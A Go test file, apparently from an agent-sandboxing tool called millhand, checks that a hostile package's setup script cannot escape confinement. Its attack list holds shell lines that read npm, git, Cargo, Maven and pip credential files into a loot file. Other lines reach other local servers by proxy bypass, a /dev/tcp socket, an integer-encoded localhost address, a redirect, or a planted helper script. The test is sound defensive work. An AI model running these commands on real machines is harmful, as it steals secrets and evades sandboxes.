package ecosystems

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/millhand/millhand/internal/sandbox"
	"github.com/millhand/millhand/internal/testing/corpus"
)

// setupAttack is what a hostile package does when setup installs it, with the registries as
// its network. Both lines, for bash in the workspace, find $REAL, the user's home directory,
// $REGISTRY, the URL of the registry that the user's npm_config_registry names, and $OTHER,
// that of another server of this machine. It has worked if it has written gotcha into the
// file loot, or requested a path with gotcha from a server.
type setupAttack struct{ name, line, agent string }

func setupAttacks() []setupAttack {
	steal := func(name string) string { return fmt.Sprintf(`cat ~/%[1]s "$REAL/%[1]s" >loot`, name) }
	return []setupAttack{
		{name: "the token of npm", line: steal(".npmrc")},
		{name: "the logins of hosts", line: steal(".netrc")},
		{name: "the password of Maven", line: steal(".m2/settings.xml")},
		{name: "the token of Cargo", line: steal(".cargo/credentials.toml")},
		{name: "the password in the settings of pip", line: steal(".config/pip/pip.conf")},
		{name: "the passwords of git", line: steal(".git-credentials")},
		{name: "the sources of another project", line: steal("projects/other/main.go")},
		{name: "everything in the home directory", line: `grep -rh gotcha ~ "$REAL" >loot`},
		{name: "the sources beside the workspace", line: `grep -h gotcha ../other/main.go >loot`},
		{name: "another server of the machine", line: `curl -s "$OTHER/gotcha"`},
		{name: "another server without the proxy", line: `curl -s --noproxy '*' "$OTHER/gotcha"`},
		{name: "another server by a socket", line: `at=${OTHER#http://}; exec 3<>"/dev/tcp/${at%:*}/${at#*:}" && printf 'GET /gotcha HTTP/1.0\r\n\r\n' >&3 && cat <&3`},
		{name: "another server by the name of this machine", line: `curl -s "http://localhost:${OTHER##*:}/gotcha"`},
		{name: "another server by a number", line: `curl -s "http://2130706433:${OTHER##*:}/gotcha"`},
		{name: "another server through a tunnel", line: `curl -s -p "$OTHER/gotcha"`},
		{name: "another server by a redirect of the registry", line: `curl -sL "$REGISTRY/redirect"`},
		{name: "the registry after setup, by its proxy", line: `echo "$http_proxy" >proxy`, agent: `http_proxy=$(cat proxy) curl -s "$REGISTRY/gotcha"`},
		{name: "the registry after setup, by a program for the agent", line: `printf '#!/bin/sh\ncurl -s "$1/gotcha"\n' >run; chmod +x run`, agent: `./run "$REGISTRY"`},
	}
}

func TestSetupCannotLeaveItsRegistries(t *testing.T) {
	if testing.Short() {
		t.Skip("long, and run without -short")
	}
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl is not on PATH")
	}
	var names []string
	for _, a := range setupAttacks() {
		names = append(names, a.name)
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			if !a.try(t, "", "--sandbox", "off") {
				t.Fatal("it has no effect where nothing is confined")
			}
			best := sandbox.Probe(t.Context(), t.TempDir()).Best
			if best == sandbox.Full && a.try(t, "") {
				t.Error("it works at level A")
			}
			if best != sandbox.None && a.try(t, "without-namespaces") {
				t.Error("it works at level B")
			}
		})
	}
	corpus.Check(t, "ins", names)
}

// visits is a server that notes requests of paths with gotcha.
type visits struct {
	*httptest.Server
	mu     sync.Mutex
	gotcha bool
}

func newVisits(t *testing.T, redirect string) *visits {
	t.Helper()
	v := &visits{}
	v.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		v.mu.Lock()
		defer v.mu.Unlock()
		v.gotcha = v.gotcha || strings.Contains(r.URL.Path, "gotcha")
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, redirect, http.StatusFound)
			return
		}
		fmt.Fprintln(w, "hello")
	}))
	t.Cleanup(v.Close)
	return v
}

// try runs an attack and reports whether it has worked.
func (a setupAttack) try(t *testing.T, wrapper string, flags ...string) bool {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	other := newVisits(t, "")
	registry := newVisits(t, other.URL+"/gotcha")
	mine, err := url.Parse(registry.URL)
	if err != nil {
		t.Fatal(err)
	}
	mine.User = url.UserPassword("me", "gotcha")
	variables := fmt.Sprintf("REAL=%s/home REGISTRY=%s OTHER=%s\n", base, registry.URL, other.URL)
	marker := "token = gotcha\n"
	files := map[string]string{
		"manifest.yaml":     "version: 1\nmodel: script:turns.yaml\nprofile: build\nrepos: [{path: shop}]\ntasks: [{id: try, prompt: Try., commit: false, setup: [bash install.sh]}]\n",
		"turns.yaml":        "version: 1\nturns:\n  - calls: [{tool: bash, args: {command: \"bash agent.sh\"}}]\n  - text: Done.\n",
		"shop/package.json": "{}",
		"shop/install.sh":   variables + "curl -sf -o reached $REGISTRY/reached || exit 1\n" + a.line + "\ntrue\n",
		"shop/agent.sh":     variables + a.agent + "\n",
		"shop/.gitignore":   "loot\nproxy\nrun\nreached\n",
		"other/main.go":     "// gotcha\n",
		"home/.npmrc":       "registry=" + mine.String() + "/\n//127.0.0.1/:_authToken=gotcha\n",
		"tmp/x":             "", "home/.m2/settings.xml": "<settings><servers><server><id>a</id><password>gotcha</password></server></servers>" +
			"<mirrors><mirror><id>a</id><mirrorOf>*</mirrorOf><url>" + mine.String() + "</url></mirror></mirrors></settings>",
		"home/.netrc": marker, "home/.cargo/credentials.toml": marker, "home/.config/pip/pip.conf": "[global]\nindex-url = " + mine.String() + "\n",
		"home/.git-credentials": marker, "home/projects/other/main.go": "// gotcha\n",
	}
	for name, text := range files {
		path := filepath.Join(base, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	shop := filepath.Join(base, "shop")
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"add", "."}, {"-c", "user.name=T", "-c", "user.email=t@example.com", "commit", "-q", "-m", "start"}} {
		if out, err := exec.Command("git", append([]string{"-C", shop}, args...)...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	out := a.millhand(t, base, wrapper, flags)
	if _, err := os.Stat(filepath.Join(shop, "reached")); err != nil {
		t.Fatalf("setup did not reach the registry:\n%s", out)
	}
	loot, _ := os.ReadFile(filepath.Join(shop, "loot"))
	worked := strings.Contains(string(loot), "gotcha")
	for _, v := range []*visits{registry, other} {
		v.mu.Lock()
		worked = worked || v.gotcha
		v.mu.Unlock()
	}
	t.Logf("%s %v: worked: %t\n%s\n%s", wrapper, flags, worked, loot, out)
	return worked
}

// millhand runs the manifest and returns what is printed.
func (a setupAttack) millhand(t *testing.T, base, wrapper string, flags []string) string {
	t.Helper()
	program, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(base, "bin")
	if err := os.Mkdir(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"millhand", "without-namespaces"} {
		if err := os.Symlink(program, filepath.Join(bin, name)); err != nil {
			t.Fatal(err)
		}
	}
	args := append([]string{filepath.Join(bin, "millhand"), "run", filepath.Join(base, "manifest.yaml"), "--report-dir", filepath.Join(base, "run")}, flags...)
	if wrapper != "" {
		args = append([]string{filepath.Join(bin, wrapper)}, args...)
	}
	cmd := exec.CommandContext(t.Context(), args[0], args[1:]...)
	cmd.Dir = base
	cmd.Env = append(os.Environ(), "HOME="+filepath.Join(base, "home"), "TMPDIR="+filepath.Join(base, "tmp"), "GIT_CONFIG_NOSYSTEM=1")
	out, _ := cmd.CombinedOutput()
	return string(out)
}
